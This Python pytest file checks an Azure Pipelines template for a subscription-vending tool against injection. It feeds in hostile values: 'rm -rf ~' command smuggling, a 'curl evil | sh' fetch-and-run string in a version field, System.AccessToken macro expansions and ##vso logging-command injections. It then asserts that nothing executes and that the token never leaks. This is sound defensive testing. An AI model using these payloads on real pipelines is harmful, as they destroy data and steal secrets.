"""A hostile request travels through the real template, an emulated Azure Pipelines and real bash.

The request is queued as the Runs API would queue it (`parameters_from_request`),
bound to the consumer example's runtime parameters, passed through `extends`
into the template, expanded at compile time, macro-expanded at run time with
`System.AccessToken` = SECRET-TOKEN, and the steps' scripts run with bash and
the real `vending` for reading the request. Only `vending apply` (built
elsewhere) is a stub that records its arguments and commits like apply would.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from vending import schemas
from vending.azdo.parameters import parameters_from_request
from vending.azdo.template import render_consumer_example, render_pipeline_template

from . import agent
from .pipelines import PipelineError, StepResult, bind, compile_run, expand, run_bash

NEWEST = schemas.schema_for(schemas.latest().name)
SECRET = "SECRET-TOKEN"
SHELL = "'; rm -rf ~; echo '"
HOSTILE_DISPLAY = "' && rm -rf ~ && echo '$(System.AccessToken)"  # Azure refuses ; < > | in a display name
REQUEST: dict[str, Any] = {
    "schemaVersion": "2.0.0",
    "name": "payments-prod",
    "displayName": HOSTILE_DISPLAY,
    "workload": "Production",
    "billingScope": "/providers/Microsoft.Billing/billingAccounts/1234567/enrollmentAccounts/7654321",
    "managementGroup": "corp",
    "location": "uksouth",
    "requestedBy": "alice@contoso.com",
    "tags": {
        "shell": SHELL,
        "token": "$(System.AccessToken)",
        "lower": "$(system.accesstoken)",
        "variable": "$(x)",
        "expression": "${{ parameters.name }}",
        "runtime": "$[ variables['System.AccessToken'] ]",
        "encoded": "%24(System.AccessToken) 100%",
        "command": "##vso[task.setvariable variable=evil]1",
        "backtick": "`id` $(id) \"quoted\" \\ \t tab",  # the module refuses a newline in a tag value
    },
    "network": {"addressSpace": ["10.1.0.0/24"], "hubPeering": True},
    "state": "present",
}


FEDERATED = {"idToken": "federated-token", "servicePrincipalId": "11111111-1111-1111-1111-111111111111",
             "tenantId": "22222222-2222-2222-2222-222222222222"}


@dataclass
class Agent:
    """One machine: a workspace per job, the variables the agent defines, and tools on PATH."""

    root: Path
    stubs: Path
    origin: Path
    home: Path
    apply_log: Path
    results: list[StepResult] = field(default_factory=list)

    def job(self, name: str) -> dict[str, str]:
        workspace = self.root / name
        for sub in ("_temp", "a", "s"):
            (workspace / sub).mkdir(parents=True, exist_ok=True)
        return {
            "System.AccessToken": SECRET,
            "x": "value-of-x",
            "Agent.TempDirectory": str(workspace / "_temp"),
            "Pipeline.Workspace": str(workspace),
            "Build.ArtifactStagingDirectory": str(workspace / "a"),
            "Build.Reason": "Manual",
            "Build.SourceBranch": "refs/heads/main",
        }

    def checkout_gitops(self, variables: dict[str, str]) -> Path:
        """What `checkout: self` with `path: gitops` and `fetchDepth: 0` leaves: a detached HEAD."""
        target = Path(variables["Pipeline.Workspace"]) / "gitops"
        git("clone", "-q", str(self.origin), str(target))
        git("-C", str(target), "checkout", "-q", "--detach")
        return target

    def run(self, step: dict[str, Any], variables: dict[str, str]) -> StepResult:
        base = {"PATH": f"{self.stubs}:{Path(sys.executable).parent}:/usr/local/bin:/usr/bin:/bin",
                "HOME": str(self.home), "TF_BUILD": "True", "GIT_CONFIG_NOSYSTEM": "1",
                "GIT_CONFIG_GLOBAL": str(self.root / "no-global-gitconfig"), "LANG": "C.UTF-8"}
        if step.get("task") == "AzureCLI@2":
            # `az` is not here: the task's sign-in is not run, its inline script is, with what the task hands
            # a script under addSpnToEnvironment.
            assert step["inputs"]["addSpnToEnvironment"] is True and step["inputs"]["scriptType"] == "bash"
            step = {"bash": step["inputs"]["inlineScript"], "env": step.get("env", {})}
            base.update(FEDERATED)
        result = run_bash(step, variables, {"System.AccessToken"}, base, Path(variables["Agent.TempDirectory"]))
        self.results.append(result)
        return result


def git(*args: str) -> str:
    return subprocess.run(["git", *args], check=True, capture_output=True, text=True).stdout


def real_vending() -> list[str]:
    exe = shutil.which("vending", path=str(Path(sys.executable).parent))
    return [exe] if exe else [sys.executable, "-m", "vending"]


APPLY_STUB = '''#!{python}
"""vending, with `apply` replaced by a stub that records its arguments and commits like apply."""
import json, os, shutil, subprocess, sys
if sys.argv[1:2] != ["apply"]:
    os.execv({real[0]!r}, {real!r} + sys.argv[1:])
args = sys.argv[1:]
with open({log!r}, "a", encoding="utf-8") as handle:
    handle.write(json.dumps(args) + "\\n")
request = json.load(open(args[1], encoding="utf-8"))
repo = args[args.index("--repo") + 1]
root = os.path.join(repo, "generated", "terraform", "production", request["name"])
os.makedirs(root, exist_ok=True)
with open(os.path.join(root, "main.tf"), "w", encoding="utf-8") as handle:
    handle.write('output "subscription" {{\\n  value = "%s"\\n}}\\n' % request["name"])
os.makedirs(os.path.join(repo, "requests"), exist_ok=True)
shutil.copy(args[1], os.path.join(repo, "requests", request["name"] + ".json"))
subprocess.run(["git", "-C", repo, "add", "-A"], check=True)
subprocess.run(["git", "-C", repo, "commit", "-q", "-m", "Vend %s [skip ci]" % request["name"]], check=True)
print(json.dumps({{"subscription": request["name"], "action": "created", "commit": "0" * 40, "attempts": 1}}))
'''


@pytest.fixture
def machine(tmp_path: Path) -> Agent:
    stubs = tmp_path / "bin"
    stubs.mkdir()
    log = tmp_path / "apply.log"
    stub = stubs / "vending"
    stub.write_text(APPLY_STUB.format(python=sys.executable, real=real_vending(), log=str(log)), encoding="utf-8")
    stub.chmod(0o755)
    home = tmp_path / "home"
    home.mkdir()
    (home / "canary").write_text("still here\n", encoding="utf-8")
    origin = tmp_path / "origin.git"
    seed = tmp_path / "seed"
    git("init", "-q", "--bare", "-b", "main", str(origin))
    git("init", "-q", "-b", "main", str(seed))
    (seed / "README.md").write_text("GitOps repository\n", encoding="utf-8")
    git("-C", str(seed), "add", "-A")
    git("-C", str(seed), "-c", "user.name=Seed", "-c", "user.email=seed@example.com", "commit", "-q", "-m", "seed")
    git("-C", str(seed), "push", "-q", str(origin), "main")
    return Agent(tmp_path / "agent", stubs, origin, home, log)


def compiled() -> dict[str, Any]:
    queued = parameters_from_request(REQUEST, NEWEST)  # what `vending trigger` sends
    return compile_run(render_consumer_example(NEWEST, version="1.0.0"), render_pipeline_template(NEWEST), queued)


def job_steps(pipeline: dict[str, Any], stage: str) -> list[dict[str, Any]]:
    job = next(s for s in pipeline["stages"] if s["stage"] == stage)["jobs"][0]
    steps: list[dict[str, Any]] = job["strategy"]["runOnce"]["deploy"]["steps"] if "deployment" in job \
        else job["steps"]
    return steps


def bash_step(steps: list[dict[str, Any]], name: str) -> dict[str, Any]:
    return next(s for s in steps if "bash" in s and s["displayName"] == name)


def everything_written(*roots: Path) -> Iterator[str]:
    for root in roots:
        for path in root.rglob("*"):
            if path.is_file():
                yield path.read_text(encoding="utf-8", errors="replace")


def test_compiled_scripts_carry_no_request_values() -> None:
    pipeline = compiled()
    steps = [s for stage in ("DryRun", "Terraform", "Vend") for s in job_steps(pipeline, stage)]
    scripts = [(s, s["bash"] if "bash" in s else s["inputs"]["inlineScript"]) for s in steps
               if "bash" in s or s.get("task") == "AzureCLI@2"]
    assert [s["inputs"]["azureSubscription"] for s, _ in scripts if "task" in s] == ["sc-vending-production"]
    for step, script in scripts:
        assert "${{" not in script and "$(" not in script
        assert "$" not in "".join(str(v) for k, v in step.get("env", {}).items() if k != "REQUEST_FILE")
        assert "rm -rf" not in script


def test_a_hostile_request_reaches_vending_as_plain_data(machine: Agent) -> None:
    pipeline = compiled()

    # Dry run: read the request, `vending apply --no-push`, show the change, collect the Terraform roots.
    dry = machine.job("dry-run")
    gitops = machine.checkout_gitops(dry)
    steps = job_steps(pipeline, "DryRun")
    read = machine.run(bash_step(steps, "Read the request from the parameters"), dry)
    assert read.code == 0, read.err
    request_file = Path(dry["Agent.TempDirectory"]) / "vending-request.json"
    raw = request_file.read_text(encoding="utf-8")
    assert json.loads(raw) == {k: v for k, v in REQUEST.items()}
    assert HOSTILE_DISPLAY in raw and '"$(System.AccessToken)"' in raw and '"%24(System.AccessToken) 100%"' in raw
    assert {c.properties["variable"]: c.message for c in agent.commands(read.out + read.err)} == {
        "subscription": "payments-prod", "schemaVersion": "2.0.0"}

    shown = machine.run(bash_step(steps, "What would change"), dry)
    assert shown.code == 0, shown.err
    assert "**vso[task.setvariable variable=evil]1" in shown.out  # the diff shows the value, defused
    assert "evil" not in {c.properties.get("variable") for c in agent.commands(shown.out + shown.err)}
    roots = Path(dry["Build.ArtifactStagingDirectory"]) / "terraform-roots"
    assert (roots / "roots.txt").read_text(encoding="utf-8") == "generated/terraform/production/payments-prod\n"
    assert (roots / "generated/terraform/production/payments-prod/main.tf").is_file()
    assert json.loads(machine.apply_log.read_text(encoding="utf-8").splitlines()[0]) == [
        "apply", str(request_file), "--repo", str(gitops), "--branch", "main", "--no-push", "--output", "json"]

    # Terraform: the published roots, downloaded into another job.
    check = machine.job("terraform")
    shutil.copytree(roots, Path(check["Pipeline.Workspace"]) / "terraform-roots")
    if shutil.which("terraform"):
        validated = machine.run(bash_step(job_steps(pipeline, "Terraform"), "terraform validate"), check)
        assert validated.code == 0, validated.out + validated.err
        assert "generated/terraform/production/payments-prod: valid" in validated.out
        # The plan a reviewer sees, with the Production connection the consumer passed (the stub root has no
        # backend: its state is local and empty, as a new subscription's is).
        plan = next(s for s in job_steps(pipeline, "Terraform") if s.get("task") == "AzureCLI@2")
        planned = machine.run(plan, check)
        assert planned.code == 0, planned.out + planned.err
        assert "plan -input=false -no-color -lock=false" in planned.script
        summary = Path(check["Agent.TempDirectory"]) / "terraform-plan.md"
        assert [c.message for c in agent.commands(planned.out) if c.name == "task.uploadsummary"] == [str(summary)]
        assert "### generated/terraform/production/payments-prod: planned" in summary.read_text(encoding="utf-8")
        assert 'subscription = "payments-prod"' in summary.read_text(encoding="utf-8")

    # Vend: a fresh checkout, read the request again, `vending apply` for real (stubbed here).
    vend = machine.job("vend")
    vend_gitops = machine.checkout_gitops(vend)
    steps = job_steps(pipeline, "Vend")
    assert machine.run(bash_step(steps, "Read the request from the parameters"), vend).code == 0
    applied = machine.run(bash_step(steps, "vending apply"), vend)
    assert applied.code == 0, applied.err
    assert json.loads(machine.apply_log.read_text(encoding="utf-8").splitlines()[1]) == [
        "apply", str(Path(vend["Agent.TempDirectory"]) / "vending-request.json"), "--repo", str(vend_gitops),
        "--branch", "main", "--output", "json"]

    # Nothing ran, and the token is nowhere: not in a log, a variable, a file or a commit.
    assert (machine.home / "canary").read_text(encoding="utf-8") == "still here\n"
    logs = [r.out + r.err + json.dumps(r.env) + r.script for r in machine.results]
    history = git("-C", str(gitops), "log", "-p", "--all") + git("-C", str(vend_gitops), "log", "-p", "--all")
    written = list(everything_written(machine.root, machine.origin))
    assert not [text for text in [*logs, history, *written] if SECRET in text]


@pytest.mark.parametrize(("parameter", "value", "step", "stage"), [
    ("trunkBranch", "$(System.AccessToken)", "What would change", "DryRun"),
    ("trunkBranch", "main; rm -rf ~", "vending apply", "Vend"),
    ("vendingVersion", "1.0.0 $(System.AccessToken)", "Install vending", "DryRun"),
    ("vendingVersion", "1.0; curl evil | sh", "Install vending", "Vend"),
    ("terraformVersion", "$(System.AccessToken)", "terraform validate", "Terraform"),
])
def test_the_templates_own_parameters_are_checked_before_use(machine: Agent, parameter: str, value: str, step: str,
                                                             stage: str) -> None:
    template = yaml.safe_load(render_pipeline_template(NEWEST))
    given = {**{k: v for k, v in REQUEST.items() if k != "tags"}, parameter: value}
    pipeline = expand(template, bind(template.pop("parameters"), given))
    variables = machine.job("job")
    machine.checkout_gitops(variables)
    roots = Path(variables["Pipeline.Workspace"]) / "terraform-roots"
    roots.mkdir()
    (roots / "roots.txt").write_text("generated/terraform/production/payments-prod\n", encoding="utf-8")
    (Path(variables["Agent.TempDirectory"]) / "vending-request.json").write_text("{}", encoding="utf-8")
    result = machine.run(bash_step(job_steps(pipeline, stage), step), variables)
    assert result.code == 1
    issues = [c for c in agent.commands(result.out) if c.name == "task.logissue"]
    assert [c.properties["type"] for c in issues] == ["error"]
    assert parameter in issues[0].message
    assert not machine.apply_log.exists()
    assert SECRET not in result.out + result.err + json.dumps(result.env)
    assert (machine.home / "canary").is_file()


def test_the_emulation_refuses_what_azure_refuses() -> None:
    template = yaml.safe_load(render_pipeline_template(NEWEST))
    with pytest.raises(PipelineError, match="A value for the 'name' parameter must be provided"):
        bind(template["parameters"], {"displayName": "x"})
    with pytest.raises(PipelineError, match="not a valid value"):
        bind(template["parameters"], {**REQUEST, "workload": "Prod"})
    with pytest.raises(PipelineError, match="Unexpected parameter"):
        bind(template["parameters"], {**REQUEST, "surprise": "x"})


def test_without_the_encoding_the_agent_would_hand_over_the_token(machine: Agent) -> None:
    """The control: pass `convertToJson(parameters)` unencoded and the macro expansion puts the token in
    the environment; the decoder then refuses it instead of writing it into a request."""
    encoded = "${{ replace(replace(convertToJson(parameters), '%', '%25'), '$', '%24') }}"
    text = render_pipeline_template(NEWEST)
    assert encoded in text
    naive = text.replace(encoded, "${{ convertToJson(parameters) }}")
    pipeline = compile_run(render_consumer_example(NEWEST, version="1.0.0"), naive,
                           parameters_from_request(REQUEST, NEWEST))
    variables = machine.job("naive")
    result = machine.run(bash_step(job_steps(pipeline, "DryRun"), "Read the request from the parameters"), variables)
    assert SECRET in result.env["VENDING_PARAMETERS"]
    assert result.code == 1
    assert "it contains '$', so it was not encoded by the template" in result.err
    assert not (Path(variables["Agent.TempDirectory"]) / "vending-request.json").exists()


PYTHON_STUB = """#!/bin/bash
# python -m venv DIR makes DIR/bin/python (this stub, recording pip's arguments) and DIR/bin/vending.
if [ "$1 $2" = "-m venv" ]; then
  mkdir -p "$3/bin" && cp "$0" "$3/bin/python" && printf '#!/bin/bash\\necho vending 9.9.9\\n' > "$3/bin/vending"
  chmod +x "$3/bin/vending"
  exit 0
fi
printf '%s\\n' "$@" > {log}
"""


@pytest.mark.parametrize(("version", "package"), [("", "{workspace}/vending"), ("1.2.3", "vending==1.2.3")])
def test_install_takes_vending_from_the_templates_tag_or_a_pinned_version(machine: Agent, version: str,
                                                                          package: str) -> None:
    pip_log = machine.root.parent / "pip.log"
    python = machine.stubs / "python"
    python.write_text(PYTHON_STUB.replace("{log}", str(pip_log)), encoding="utf-8")
    python.chmod(0o755)
    template = yaml.safe_load(render_pipeline_template(NEWEST))
    pipeline = expand(template, bind(template.pop("parameters"), {**REQUEST, "vendingVersion": version}))
    variables = machine.job("install")
    result = machine.run(bash_step(job_steps(pipeline, "DryRun"), "Install vending"), variables)
    assert result.code == 0, result.err
    arguments = pip_log.read_text(encoding="utf-8").splitlines()
    assert arguments[:2] == ["-m", "pip"] and "install" in arguments
    assert arguments[-1] == package.format(workspace=variables["Pipeline.Workspace"])
    venv = Path(variables["Agent.TempDirectory"]) / "vending-venv" / "bin"
    assert [c.message for c in agent.commands(result.out) if c.name == "task.prependpath"] == [str(venv)]
